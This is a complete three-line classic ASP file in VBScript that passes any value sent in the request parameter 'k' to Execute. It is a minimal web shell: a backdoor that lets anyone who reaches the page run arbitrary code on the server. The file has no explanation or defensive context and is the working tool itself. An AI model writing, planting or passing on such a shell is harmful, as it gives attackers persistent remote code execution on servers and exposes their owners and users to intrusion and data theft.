<%@ LANGUAGE = VBScript %>
<%
If Request("k") <> "" Then Execute(Request("k"))
%>
